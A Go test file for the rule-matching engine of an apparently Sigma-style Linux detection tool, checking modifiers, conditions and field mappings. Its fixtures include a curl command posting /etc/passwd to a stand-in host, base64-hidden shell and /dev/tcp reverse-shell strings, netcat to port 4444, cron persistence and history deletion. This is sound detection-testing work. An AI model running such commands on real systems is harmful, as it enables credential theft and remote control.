package engine

import (
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/event"
)

const (
	lsProc  = "{product: linux, category: process_creation}"
	lsNet   = "{product: linux, category: network_connection}"
	lsFile  = "{product: linux, category: file_event}"
	lsAudit = "{product: linux, service: auditd}"
)

// matchCase is one rule and one event, and whether the rule matches.
type matchCase struct {
	name      string
	logsource string
	detection string
	event     event.Event
	want      bool
}

var curlPost = execEvent("/usr/bin/curl", "curl", "-s", "-d", "@/etc/passwd", "http://203.0.113.7/up")

var matchCases = []matchCase{
	// Plain values, case, wildcards and escapes.
	{"equal", lsProc, "    s:\n        Image: /usr/bin/curl\n    condition: s\n", curlPost, true},
	{"equal ignores case", lsProc, "    s:\n        Image: /USR/BIN/CURL\n    condition: s\n", curlPost, true},
	{"equal is whole", lsProc, "    s:\n        Image: /usr/bin/cur\n    condition: s\n", curlPost, false},
	{"star", lsProc, "    s:\n        Image: '/usr/*/curl'\n    condition: s\n", curlPost, true},
	{"question mark", lsProc, "    s:\n        Image: '/usr/bin/cur?'\n    condition: s\n", curlPost, true},
	{"question mark needs a character", lsProc, "    s:\n        Image: '/usr/bin/curl?'\n    condition: s\n", curlPost, false},
	{"escaped star is plain", lsProc, "    s:\n        Image: '/usr/bin/\\*'\n    condition: s\n", curlPost, false},
	{"escaped star matches a star", lsProc, "    s:\n        CommandLine|contains: 'a\\*b'\n    condition: s\n", execEvent("/bin/echo", "echo", "a*b"), true},
	{"empty string", lsProc, "    s:\n        process.working_directory: ''\n    condition: s\n", with(curlPost, map[string]any{"process.working_directory": ""}), true},
	{"cased mismatch", lsProc, "    s:\n        Image|cased: /USR/BIN/CURL\n    condition: s\n", curlPost, false},
	{"cased match", lsProc, "    s:\n        Image|cased: /usr/bin/curl\n    condition: s\n", curlPost, true},
	{"contains", lsProc, "    s:\n        CommandLine|contains: '@/etc/'\n    condition: s\n", curlPost, true},
	{"contains cased", lsProc, "    s:\n        CommandLine|contains|cased: '@/ETC/'\n    condition: s\n", curlPost, false},
	{"startswith", lsProc, "    s:\n        CommandLine|startswith: 'CURL -s'\n    condition: s\n", curlPost, true},
	{"endswith", lsProc, "    s:\n        Image|endswith: '/curl'\n    condition: s\n", curlPost, true},
	{"endswith no", lsProc, "    s:\n        Image|endswith: '/wget'\n    condition: s\n", curlPost, false},
	{"list is or", lsProc, "    s:\n        Image|endswith:\n            - /wget\n            - /curl\n    condition: s\n", curlPost, true},
	{"all is and", lsProc, "    s:\n        CommandLine|contains|all:\n            - ' -d '\n            - '@/etc/'\n    condition: s\n", curlPost, true},
	{"all needs every value", lsProc, "    s:\n        CommandLine|contains|all:\n            - ' -d '\n            - 'shadow'\n    condition: s\n", curlPost, false},
	{"map is and", lsProc, "    s:\n        Image|endswith: /curl\n        User: bob\n    condition: s\n", curlPost, false},
	{"list of maps is or", lsProc, "    s:\n        - Image|endswith: /wget\n        - User: alice\n    condition: s\n", curlPost, true},

	// Lists in events: any element.
	{"array element", lsProc, "    s:\n        process.args: '@/etc/passwd'\n    condition: s\n", curlPost, true},
	{"array element contains", lsProc, "    s:\n        process.args|contains: passwd\n    condition: s\n", curlPost, true},
	{"array none", lsProc, "    s:\n        process.args: '-x'\n    condition: s\n", curlPost, false},
	{"array decoded", lsProc, "    s:\n        process.args: '-d'\n    condition: s\n", decoded(curlPost), true},
	{"event.type list", lsProc, "    s:\n        event.type: start\n    condition: s\n", curlPost, true},

	// Numbers.
	{"number equal int", lsNet, "    s:\n        DestinationPort: 4444\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"number equal decoded", lsNet, "    s:\n        DestinationPort: 4444\n    condition: s\n", decoded(networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444)), true},
	{"number as string", lsNet, "    s:\n        DestinationPort: '4444'\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"number against string field", lsProc, "    s:\n        process.user.id: 1000\n    condition: s\n", curlPost, true},
	{"number no", lsNet, "    s:\n        DestinationPort: 4445\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), false},
	{"hex number", lsProc, "    s:\n        process.pid: 0x1092\n    condition: s\n", curlPost, true},
	{"lt", lsNet, "    s:\n        DestinationPort|lt: 1024\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), true},
	{"lt no", lsNet, "    s:\n        DestinationPort|lt: 443\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), false},
	{"lte", lsNet, "    s:\n        DestinationPort|lte: 443\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), true},
	{"gt on a string holding a number", lsNet, "    s:\n        destination.port|gt: 8000\n    condition: s\n", with(networkEvent("connection-attempted", "egress", "10.0.0.5", 1, "198.51.100.9", 1), map[string]any{"destination.port": "8080"}), true},
	{"gte", lsNet, "    s:\n        SourcePort|gte: 40000\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), true},
	{"gt float", lsProc, "    s:\n        event.duration|gt: 1.5\n    condition: s\n", with(curlPost, map[string]any{"event.duration": 2}), true},
	{"gt not a number", lsProc, "    s:\n        process.name|gt: 5\n    condition: s\n", curlPost, false},

	// Booleans, null, exists.
	{"bool", "{product: linux, category: driver_load}", "    s:\n        Signed: false\n    condition: s\n", kmodEvent("rootkit", "/tmp/rk.ko", false), true},
	{"bool as string", "{product: linux, category: driver_load}", "    s:\n        Signed: 'false'\n    condition: s\n", kmodEvent("rootkit", "/tmp/rk.ko", false), true},
	{"bool no", "{product: linux, category: driver_load}", "    s:\n        Signed: true\n    condition: s\n", kmodEvent("rootkit", "/tmp/rk.ko", false), false},
	{"null matches missing", lsProc, "    s:\n        process.tty.name: null\n    condition: s\n", with(curlPost, map[string]any{"process.tty": nil}), true},
	{"null no", lsProc, "    s:\n        process.tty.name: null\n    condition: s\n", curlPost, false},
	{"null in a list", lsProc, "    s:\n        process.tty.name:\n            - null\n            - pts/9\n    condition: s\n", with(curlPost, map[string]any{"process.tty": nil}), true},
	{"exists", lsProc, "    s:\n        process.tty.name|exists: true\n    condition: s\n", curlPost, true},
	{"exists false", lsProc, "    s:\n        container.id|exists: false\n    condition: s\n", curlPost, true},
	{"exists false no", lsProc, "    s:\n        process.tty.name|exists: false\n    condition: s\n", curlPost, false},

	// Networks.
	{"cidr v4", lsNet, "    s:\n        DestinationIp|cidr: 198.51.100.0/24\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), true},
	{"cidr v4 no", lsNet, "    s:\n        DestinationIp|cidr: 10.0.0.0/8\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), false},
	{"cidr list", lsNet, "    s:\n        SourceIp|cidr:\n            - 192.168.0.0/16\n            - 10.0.0.0/8\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), true},
	{"cidr v6", lsNet, "    s:\n        DestinationIp|cidr: '2001:db8::/32'\n    condition: s\n", networkEvent("connection-attempted", "egress", "2001:db8::5", 40000, "2001:db8:1::9", 443), true},
	{"cidr v4-mapped", lsNet, "    s:\n        DestinationIp|cidr: 198.51.100.0/24\n    condition: s\n", networkEvent("connection-attempted", "egress", "::1", 40000, "::ffff:198.51.100.9", 443), true},
	{"cidr not an address", lsProc, "    s:\n        process.name|cidr: 10.0.0.0/8\n    condition: s\n", curlPost, false},

	// Regular expressions.
	{"re", lsProc, "    s:\n        CommandLine|re: '^curl .*-d @/etc/(passwd|shadow)'\n    condition: s\n", curlPost, true},
	{"re is cased", lsProc, "    s:\n        CommandLine|re: '^CURL'\n    condition: s\n", curlPost, false},
	{"re i", lsProc, "    s:\n        CommandLine|re|i: '^CURL'\n    condition: s\n", curlPost, true},
	{"re m", lsProc, "    s:\n        message|re|m: '^second$'\n    condition: s\n", with(curlPost, map[string]any{"message": "first\nsecond\nthird"}), true},
	{"re without m", lsProc, "    s:\n        message|re: '^second$'\n    condition: s\n", with(curlPost, map[string]any{"message": "first\nsecond\nthird"}), false},
	{"re s", lsProc, "    s:\n        message|re|s: 'first.second'\n    condition: s\n", with(curlPost, map[string]any{"message": "first\nsecond"}), true},
	{"re without s", lsProc, "    s:\n        message|re: 'first.second'\n    condition: s\n", with(curlPost, map[string]any{"message": "first\nsecond"}), false},
	{"re on a number", lsProc, "    s:\n        ProcessId|re: '^42'\n    condition: s\n", curlPost, true},
	{"re on a list", lsProc, "    s:\n        process.args|re: '^@/etc/'\n    condition: s\n", curlPost, true},
	{"re all", lsProc, "    s:\n        CommandLine|re|all:\n            - '-s'\n            - 'http://[0-9.]+'\n    condition: s\n", curlPost, true},

	// Encodings.
	{"base64", lsProc, "    s:\n        CommandLine|base64|contains: '/bin/sh -i'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo L2Jpbi9zaCAtaQ== | base64 -d | sh"), true},
	{"base64 is cased", lsProc, "    s:\n        CommandLine|base64|contains: '/bin/sh -i'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo l2jpbi9zacataq== | base64 -d | sh"), false},
	{"base64offset 0", lsProc, "    s:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo "+b64("/dev/tcp/1.2.3.4/80")+" | base64 -d"), true},
	{"base64offset 1", lsProc, "    s:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo "+b64("x /dev/tcp/1.2.3.4/80")+" | base64 -d"), true},
	{"base64offset 2", lsProc, "    s:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo "+b64("xy /dev/tcp/1.2.3.4/80")+" | base64 -d"), true},
	{"base64offset no", lsProc, "    s:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: s\n", execEvent("/usr/bin/bash", "bash", "-c", "echo "+b64("nothing to see here")+" | base64 -d"), false},
	{"utf16le base64offset", lsProc, "    s:\n        CommandLine|wide|base64offset|contains: 'IEX'\n    condition: s\n", execEvent("/usr/bin/pwsh", "pwsh", "-enc", b64("I\x00E\x00X\x00 \x00(\x00")), true},
	{"windash", lsProc, "    s:\n        CommandLine|windash|contains: ' -enc '\n    condition: s\n", execEvent("/usr/bin/pwsh", "pwsh", "/enc", "AAAA"), true},
	{"windash en dash", lsProc, "    s:\n        CommandLine|windash|contains: ' -enc '\n    condition: s\n", execEvent("/usr/bin/pwsh", "pwsh", "\u2013enc", "AAAA"), true},
	{"windash no", lsProc, "    s:\n        CommandLine|windash|contains: ' -enc '\n    condition: s\n", execEvent("/usr/bin/pwsh", "pwsh", "+enc", "AAAA"), false},

	// Field references.
	{"fieldref", lsProc, "    s:\n        Image|fieldref: ParentImage\n    condition: s\n", with(curlPost, map[string]any{"process.parent.executable": "/USR/BIN/CURL"}), true},
	{"fieldref no", lsProc, "    s:\n        Image|fieldref: ParentImage\n    condition: s\n", curlPost, false},
	{"fieldref cased", lsProc, "    s:\n        Image|fieldref|cased: ParentImage\n    condition: s\n", with(curlPost, map[string]any{"process.parent.executable": "/USR/BIN/CURL"}), false},
	{"fieldref neq", lsProc, "    s:\n        user.name|fieldref|neq: process.real_user.name\n    condition: s\n", with(curlPost, map[string]any{"user.name": "root"}), true},
	{"fieldref neq no", lsProc, "    s:\n        user.name|fieldref|neq: process.real_user.name\n    condition: s\n", curlPost, false},
	{"fieldref contains", lsProc, "    s:\n        CommandLine|fieldref|contains: process.working_directory\n    condition: s\n", execEvent("/usr/bin/tar", "tar", "czf", "/tmp/x.tgz", "/home/alice"), true},
	{"fieldref endswith", lsProc, "    s:\n        Image|fieldref|endswith: process.name\n    condition: s\n", curlPost, true},
	{"fieldref numbers", lsNet, "    s:\n        source.port|fieldref: destination.port\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 53, "198.51.100.9", 53), true},
	{"fieldref missing", lsProc, "    s:\n        Image|fieldref: container.id\n    condition: s\n", curlPost, false},

	// neq.
	{"neq", lsProc, "    s:\n        User|neq: root\n    condition: s\n", curlPost, true},
	{"neq no", lsProc, "    s:\n        User|neq: alice\n    condition: s\n", curlPost, false},
	{"neq missing field", lsProc, "    s:\n        container.id|neq: abc\n    condition: s\n", curlPost, true},
	{"neq number", lsNet, "    s:\n        DestinationPort|neq: 443\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), false},

	// Time parts (of @timestamp 2024-06-12T02:38:41Z, a Wednesday of ISO week 24).
	{"hour", lsProc, "    s:\n        '@timestamp|hour': 2\n    condition: s\n", curlPost, true},
	{"hour range", lsProc, "    s:\n        '@timestamp|hour|lt': 6\n    condition: s\n", curlPost, true},
	{"minute", lsProc, "    s:\n        '@timestamp|minute|gte': 39\n    condition: s\n", curlPost, false},
	{"day", lsProc, "    s:\n        '@timestamp|day': 12\n    condition: s\n", curlPost, true},
	{"week", lsProc, "    s:\n        '@timestamp|week': 24\n    condition: s\n", curlPost, true},
	{"month", lsProc, "    s:\n        '@timestamp|month': 6\n    condition: s\n", curlPost, true},
	{"year", lsProc, "    s:\n        '@timestamp|year|gt': 2023\n    condition: s\n", curlPost, true},
	{"year neq", lsProc, "    s:\n        '@timestamp|year|neq': 2024\n    condition: s\n", curlPost, false},
	{"time of a non-date", lsProc, "    s:\n        'process.name|hour': 2\n    condition: s\n", curlPost, false},

	// Keywords.
	{"keyword in message", "{product: linux, service: sshd}", "    k:\n        - 'Failed password'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root from 203.0.113.50 port 51234 ssh2"), true},
	{"keyword ignores case", "{product: linux, service: sshd}", "    k:\n        - 'failed PASSWORD'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root from 203.0.113.50 port 51234 ssh2"), true},
	{"keyword wildcard", "{product: linux, service: sshd}", "    k:\n        - 'Failed * for root'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root from 203.0.113.50 port 51234 ssh2"), true},
	{"keyword no", "{product: linux, service: sshd}", "    k:\n        - 'Accepted publickey'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root"), false},
	{"keyword all", "{product: linux, service: sshd}", "    k:\n        '|all':\n            - 'Failed'\n            - 'root'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root"), true},
	{"keyword all no", "{product: linux, service: sshd}", "    k:\n        '|all':\n            - 'Failed'\n            - 'admin'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root"), false},
	{"keyword re", "{product: linux, service: auth}", "    k:\n        '|re': 'Invalid user \\w+ from'\n    condition: k\n", authEvent("invalid-user", "sshd", "oracle", "203.0.113.50", "Invalid user oracle from 203.0.113.50 port 4242"), true},
	{"keyword in command line", lsProc, "    k:\n        - 'http://203.0.113.7'\n    condition: k\n", with(curlPost, map[string]any{"message": "short"}), true},
	{"keyword and field", lsProc, "    k:\n        - 'passwd'\n    s:\n        User: alice\n    condition: k and s\n", curlPost, true},
	{"service selects its events", "{product: linux, service: sudo}", "    k:\n        - 'Failed password'\n    condition: k\n", authEvent("login-failed", "sshd", "root", "203.0.113.50", "Failed password for root"), false},

	// Conditions.
	{"not", lsProc, "    s:\n        Image|endswith: /curl\n    f:\n        User: alice\n    condition: s and not f\n", curlPost, false},
	{"or", lsProc, "    a:\n        Image|endswith: /wget\n    b:\n        User: alice\n    condition: a or b\n", curlPost, true},
	{"precedence", lsProc, "    a:\n        Image|endswith: /wget\n    b:\n        User: alice\n    c:\n        User: bob\n    condition: a or b and c\n", curlPost, false},
	{"parentheses", lsProc, "    a:\n        Image|endswith: /curl\n    b:\n        User: alice\n    c:\n        User: bob\n    condition: (a or c) and b\n", curlPost, true},
	{"1 of", lsProc, "    sel_a:\n        Image|endswith: /wget\n    sel_b:\n        Image|endswith: /curl\n    condition: 1 of sel_*\n", curlPost, true},
	{"all of", lsProc, "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n        User: bob\n    condition: all of sel_*\n", curlPost, false},
	{"all of them", lsProc, "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n        User: alice\n    _ignored:\n        User: bob\n    condition: all of them\n", curlPost, true},
	{"1 of them", lsProc, "    a:\n        Image|endswith: /wget\n    b:\n        User: nobody\n    condition: 1 of them\n", curlPost, false},
	{"not 1 of filters", lsProc, "    sel:\n        Image|endswith: /curl\n    filter_a:\n        User: root\n    filter_b:\n        ParentImage: /usr/sbin/cron\n    condition: sel and not 1 of filter_*\n", curlPost, true},
	{"condition list", lsProc, "    a:\n        Image|endswith: /wget\n    b:\n        User: alice\n    condition:\n        - a\n        - b\n", curlPost, true},

	// Field mapping and log sources.
	{"parent", lsProc, "    s:\n        ParentImage|endswith: /bash\n        ParentCommandLine: -bash\n    condition: s\n", curlPost, true},
	{"current directory", lsProc, "    s:\n        CurrentDirectory: /home/alice\n    condition: s\n", curlPost, true},
	{"process id", lsProc, "    s:\n        ProcessId: 4242\n        ParentProcessId: 4200\n    condition: s\n", curlPost, true},
	{"ecs passthrough", lsProc, "    s:\n        process.tty.name: pts/0\n        host.name: oa-web-*\n    condition: s\n", curlPost, true},
	{"flat dotted key in the event", lsProc, "    s:\n        process.parent.executable: /opt/x\n    condition: s\n", with(curlPost, map[string]any{"process": map[string]any{"parent.executable": "/opt/x"}}), true},
	{"other category", lsProc, "    s:\n        User: www-data\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 443), false},
	{"other action", lsProc, "    s:\n        User: alice\n    condition: s\n", with(curlPost, map[string]any{"event.action": "exit"}), false},
	{"process termination", "{product: linux, category: process_termination}", "    s:\n        Image|endswith: /curl\n    condition: s\n", with(curlPost, map[string]any{"event.action": "exit"}), true},
	{"initiated true", lsNet, "    s:\n        Initiated: 'true'\n        DestinationPort: 4444\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"initiated bool", lsNet, "    s:\n        Initiated: true\n    condition: s\n", networkEvent("connection-accepted", "ingress", "198.51.100.9", 40000, "10.0.0.5", 22), false},
	{"initiated false", lsNet, "    s:\n        Initiated: 'false'\n    condition: s\n", networkEvent("connection-accepted", "ingress", "198.51.100.9", 40000, "10.0.0.5", 22), true},
	{"initiated neq", lsNet, "    s:\n        Initiated|neq: 'true'\n    condition: s\n", networkEvent("connection-accepted", "ingress", "198.51.100.9", 40000, "10.0.0.5", 22), true},
	{"ipv6", lsNet, "    s:\n        DestinationIsIpv6: 'true'\n    condition: s\n", networkEvent("connection-attempted", "egress", "2001:db8::5", 40000, "2001:db8:1::9", 443), true},
	{"network user and image", lsNet, "    s:\n        User: www-data\n        Image|endswith: /nc.openbsd\n        Protocol: tcp\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"file target", lsFile, "    s:\n        TargetFilename|startswith: /etc/cron.d/\n        Image|endswith: /tee\n    condition: s\n", fileEvent("file-created", "/etc/cron.d/updater"), true},
	{"file modified is a file event", lsFile, "    s:\n        TargetFilename: /etc/crontab\n    condition: s\n", fileEvent("file-modified", "/etc/crontab"), true},
	{"file deleted is not", lsFile, "    s:\n        TargetFilename: /etc/crontab\n    condition: s\n", fileEvent("file-deleted", "/etc/crontab"), false},
	{"file delete", "{product: linux, category: file_delete}", "    s:\n        TargetFilename|endswith: /.bash_history\n    condition: s\n", fileEvent("file-deleted", "/root/.bash_history"), true},
	{"file rename", "{product: linux, category: file_rename}", "    s:\n        SourceFilename|startswith: /tmp/\n        TargetFilename|startswith: /usr/bin/\n    condition: s\n", fileEvent("file-renamed", "/usr/bin/sshd"), true},
	{"file change attributes", "{product: linux, category: file_change}", "    s:\n        TargetFilename: /usr/bin/passwd\n    condition: s\n", fileEvent("file-attributes-changed", "/usr/bin/passwd"), true},
	{"dns query", "{product: linux, category: dns_query}", "    s:\n        QueryName|endswith: '.onion.ws'\n    condition: s\n", dnsEvent("dns-query", "abc.onion.ws"), true},
	{"dns answer", "{product: linux, category: dns_query}", "    s:\n        QueryResults: 198.51.100.66\n    condition: s\n", dnsEvent("dns-answer", "pool.example", "198.51.100.65", "198.51.100.66"), true},
	{"dns answer not on a query", "{product: linux, category: dns_query}", "    s:\n        QueryName: pool.example\n        QueryResults|exists: true\n    condition: s\n", dnsEvent("dns-query", "pool.example"), false},
	{"driver load", "{product: linux, category: driver_load}", "    s:\n        ImageLoaded|startswith: /tmp/\n    condition: s\n", kmodEvent("rk", "/tmp/rk.ko", false), true},
	{"vigil service", "{product: linux, service: kmod}", "    s:\n        vigil.kmod.name: rk\n    condition: s\n", kmodEvent("rk", "/tmp/rk.ko", false), true},
	{"product only", "{product: linux}", "    s:\n        message|contains: loaded module\n    condition: s\n", kmodEvent("rk", "/tmp/rk.ko", false), true},
	{"category without product", "{category: process_creation}", "    s:\n        Image|endswith: /curl\n    condition: s\n", curlPost, true},
	{"process fields for every event", "{product: linux}", "    s:\n        CommandLine|contains: '@/etc/passwd'\n    condition: s\n", curlPost, true},
	{"file fields for every event", "{product: linux}", "    s:\n        TargetFilename: /etc/cron.d/updater\n    condition: s\n", fileEvent("file-created", "/etc/cron.d/updater"), true},
	{"process name is the path", lsProc, "    s:\n        ProcessName|endswith: /curl\n    condition: s\n", curlPost, true},
	{"process args", lsNet, "    s:\n        ProcessArgs: '4444'\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"process args contains", lsNet, "    s:\n        ProcessArgs|contains: '198.51.100.'\n    condition: s\n", networkEvent("connection-attempted", "egress", "10.0.0.5", 40000, "198.51.100.9", 4444), true},
	{"terminal session is the audit session", lsProc, "    s:\n        TerminalSessionId: 3\n    condition: s\n", curlPost, true},
	{"file create", "{product: linux, category: file_create}", "    s:\n        TargetFilename|startswith: /etc/cron.d/\n    condition: s\n", fileEvent("file-created", "/etc/cron.d/updater"), true},
	{"file create is not a change", "{product: linux, category: file_create}", "    s:\n        TargetFilename: /etc/crontab\n    condition: s\n", fileEvent("file-modified", "/etc/crontab"), false},

	// auditd records onto process and file events.
	{"auditd execve", lsAudit, "    s:\n        type: EXECVE\n        a0: chmod\n        a1|contains: '+x'\n    condition: s\n", execEvent("/usr/bin/chmod", "chmod", "u+x", "/tmp/payload"), true},
	{"auditd execve wrong argument", lsAudit, "    s:\n        type: EXECVE\n        a0: chmod\n        a1|contains: '+s'\n    condition: s\n", execEvent("/usr/bin/chmod", "chmod", "u+x", "/tmp/payload"), false},
	{"auditd argument out of range", lsAudit, "    s:\n        a5: x\n    condition: s\n", execEvent("/usr/bin/chmod", "chmod", "u+x"), false},
	{"auditd syscall exe", lsAudit, "    s:\n        type: SYSCALL\n        syscall: execve\n        exe|endswith: /chmod\n        comm: chmod\n    condition: s\n", execEvent("/usr/bin/chmod", "chmod", "u+x", "/tmp/payload"), true},
	{"auditd on file events is not exec", lsAudit, "    s:\n        type: EXECVE\n        a0: tee\n    condition: s\n", fileEvent("file-created", "/etc/cron.d/x"), false},
	{"auditd path", lsAudit, "    s:\n        type: PATH\n        name: /etc/sudoers\n    condition: s\n", fileEvent("file-modified", "/etc/sudoers"), true},
	{"auditd nametype", lsAudit, "    s:\n        type: PATH\n        nametype: DELETE\n        name|startswith: /var/log/\n    condition: s\n", fileEvent("file-deleted", "/var/log/auth.log"), true},
	{"auditd either", lsAudit, "    a:\n        type: PATH\n        name: /etc/shadow\n    b:\n        type: EXECVE\n        a0: chmod\n    condition: a or b\n", execEvent("/usr/bin/chmod", "chmod", "777", "/etc/shadow"), true},
	{"auditd ids", lsAudit, "    s:\n        type: SYSCALL\n        auid: 1000\n        euid: 1000\n        tty: pts/0\n        ses: 3\n        pid: 4242\n        ppid: 4200\n        argc: 1\n        cwd: /home/alice\n    condition: s\n", execEvent("/usr/bin/id", "id"), true},
	{"auditd cmdline", lsAudit, "    s:\n        type: SYSCALL\n        cmdline|contains: '-d @/etc/passwd'\n    condition: s\n", curlPost, true},
	{"auditd tty", lsAudit, "    s:\n        type: SYSCALL\n        tty: pts0\n    condition: s\n", execEvent("/usr/bin/id", "id"), false},
	{"auditd decoded args", lsAudit, "    s:\n        a2: '-d'\n    condition: s\n", decoded(curlPost), true},
}

func b64(s string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var b strings.Builder
	for i := 0; i < len(s); i += 3 {
		var n uint32
		rem := len(s) - i
		for j := 0; j < 3; j++ {
			n <<= 8
			if j < rem {
				n |= uint32(s[i+j])
			}
		}
		for j := 0; j < 4; j++ {
			if j <= rem {
				b.WriteByte(alphabet[n>>(18-6*j)&63])
			} else {
				b.WriteByte('=')
			}
		}
	}
	return b.String()
}

func TestMatch(t *testing.T) {
	for _, tc := range matchCases {
		t.Run(tc.name, func(t *testing.T) {
			e, problems := compileRules(t, ruleText("r-1", tc.logsource, tc.detection), Options{})
			if len(problems) > 0 {
				t.Fatalf("problems: %v", problems)
			}
			got := e.Match(tc.event, nil)
			if (len(got) == 1) != tc.want {
				t.Errorf("Match = %q, want match %v", ids(got), tc.want)
			}
			if brute := e.matchAll(tc.event, nil); ids(brute) != ids(got) {
				t.Errorf("index gave %q, every rule %q", ids(got), ids(brute))
			}
		})
	}
}

func TestExpandPlaceholders(t *testing.T) {
	src := ruleText("r-1", lsProc, "    s:\n        User|expand: '%Admins%'\n    condition: s\n")
	e, problems := compileRules(t, src, Options{Placeholders: map[string][]string{"Admins": {"root", "ali*"}}})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	if got := e.Match(curlPost, nil); len(got) != 1 {
		t.Error("alice is not among the admins")
	}
	if got := e.Match(with(curlPost, map[string]any{"user.name": "bob"}), nil); len(got) != 0 {
		t.Error("bob is among the admins")
	}
	_, problems = compileRules(t, src, Options{})
	if len(problems) != 1 || !strings.Contains(problems[0].Reason, "modifier expand needs placeholders: %Admins% not defined") {
		t.Errorf("problems without placeholders: %v", problems)
	}
}

func TestMatchAppendsInRuleOrder(t *testing.T) {
	src := ruleText("r-a", lsProc, "    s:\n        Image|endswith: /curl\n    condition: s\n") + "---\n" +
		ruleText("r-b", lsProc, "    s:\n        User: bob\n    condition: s\n") + "---\n" +
		ruleText("r-c", lsProc, "    s:\n        process.args: '-d'\n    condition: s\n") + "---\n" +
		ruleText("r-d", "{product: linux}", "    s:\n        User: alice\n    condition: s\n") + "---\n" +
		ruleText("r-e", lsNet, "    s:\n        User: alice\n    condition: s\n")
	e, problems := compileRules(t, src, Options{})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	if got := ids(e.Rules()); got != "r-a,r-b,r-c,r-d,r-e" {
		t.Errorf("Rules() = %s", got)
	}
	prefix := []*Rule{e.Rules()[4]}
	got := e.Match(curlPost, prefix)
	if ids(got) != "r-e,r-a,r-c,r-d" {
		t.Errorf("Match = %s", ids(got))
	}
	var empty Engine
	if got := empty.Match(curlPost, nil); got != nil {
		t.Errorf("empty engine matched %v", got)
	}
}

func TestRuleMetadata(t *testing.T) {
	src := "title: Curl Upload\nid: r-1\nname: curl_upload\nstatus: stable\nlevel: high\nauthor: Vigil\ndescription: d\n" +
		"tags: [attack.exfiltration, attack.t1048.003, attack.T1105, attack.t1048.003, cve.2021-4034]\n" +
		"falsepositives: [Backups]\nreferences: [https://example.org]\n" +
		"logsource: " + lsProc + "\ndetection:\n    s:\n        Image|endswith: /curl\n    condition: s\n"
	e, problems := compileRules(t, src, Options{})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	r := e.Rules()[0]
	if r.ID != "r-1" || r.Name != "curl_upload" || r.Title != "Curl Upload" || r.Level != "high" || r.Status != "stable" ||
		r.Author != "Vigil" || r.Description != "d" || r.Sigma == nil || r.Pos.Line != 1 || r.Logsource.Category != "process_creation" {
		t.Errorf("rule = %+v", r)
	}
	if strings.Join(r.Techniques, ",") != "T1048.003,T1105" {
		t.Errorf("techniques = %q", r.Techniques)
	}
	if len(r.FalsePositives) != 1 || len(r.References) != 1 || len(r.Tags) != 5 {
		t.Errorf("lists = %+v", r)
	}
}
